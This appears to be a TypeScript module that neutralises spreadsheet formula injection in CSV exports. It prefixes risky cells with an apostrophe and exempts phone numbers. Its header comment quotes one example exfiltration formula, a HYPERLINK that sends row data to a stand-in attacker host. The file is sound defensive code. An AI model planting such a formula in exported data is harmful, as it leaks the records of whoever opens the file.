// Spreadsheet formulas in CSV exports (README "What is enforced where"). A prospect types their
// name, company or title; staff export requests to CSV and open the file in Excel, which runs a
// cell that starts with = + - @ (or a tab or carriage return before one) as a formula:
// =HYPERLINK("http://evil.example/?"&A1,"Click") sends the row away. As OWASP advises, such a
// cell is exported with a leading ' so that it shows as the text it is. A phone number such as
// +1 503 555 0148 is data, not a formula, and is left as typed.

/** What a spreadsheet may take for the start of a formula. */
const FORMULA_START = /^[=+\-@\t\r]/;

/** Digits with the punctuation of phone numbers, nothing a formula could call. */
const PHONE_NUMBER = /^\+[\d\s().\-/]+$/;

/** The cell as text, neutralised when a spreadsheet would run it. */
export function neutraliseCell(value: string, field?: string): string {
  if (!FORMULA_START.test(value)) return value;
  if (field === 'phone' && PHONE_NUMBER.test(value)) return value;
  return `'${value}`;
}

/** A copy of the records to export with every text value neutralised, nested ones too. */
export function neutraliseRecords(input: unknown, field?: string): unknown {
  if (typeof input === 'string') return neutraliseCell(input, field);
  if (Array.isArray(input)) return input.map((item) => neutraliseRecords(item, field));
  if (input && typeof input === 'object' && !(input instanceof Date)) {
    return Object.fromEntries(Object.entries(input).map(([key, value]) => [key, neutraliseRecords(value, key)]));
  }
  return input;
}
